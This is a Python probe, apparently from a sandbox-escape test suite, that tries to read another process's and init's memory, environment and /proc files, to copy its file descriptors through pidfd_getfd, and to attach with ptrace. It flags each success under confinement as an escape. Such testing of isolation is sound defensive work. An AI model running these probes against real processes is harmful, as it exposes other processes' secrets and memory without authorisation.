# title: read another process's memory and environment, by every way that there is
# kind: read
from attack import *
size, address = int(get("size")), int(get("address"))
for pid in int(get("pid")), 1:
    for name in "mem", "environ", "cmdline", "maps", "auxv", "stack", "io", "smaps", "pagemap", "personality":
        path = f"/proc/{pid}/{name}"
        if name == "mem":
            fd = attempt(os.open, path, os.O_RDONLY)
            if fd is not None:
                show(attempt(os.pread, fd, size, address) or b"")
        else:
            data = read(path)
            show(data)
            if pid == 1 and name in ("environ", "maps", "smaps") and data and get("confined") == "yes":
                escaped(f"{name} of the init")
    local = ctypes.create_string_buffer(size)
    iovec = struct.pack("PN", ctypes.addressof(local), size)
    remote = struct.pack("PN", address, size)
    call("process_vm_readv", pid, text(iovec), 1, text(remote), 1, 0)
    show(local.raw)
    pidfd = call("pidfd_open", pid, 0)
    for fd in range(8):
        taken = call("pidfd_getfd", pidfd, fd, 0)
        if taken >= 0 and get("confined") == "yes":
            escaped("a descriptor of another process")
    for request in 0x4206, 16:  # PTRACE_SEIZE, PTRACE_ATTACH
        if call("ptrace", request, pid, 0, 0) >= 0:
            escaped(f"traced {pid}")
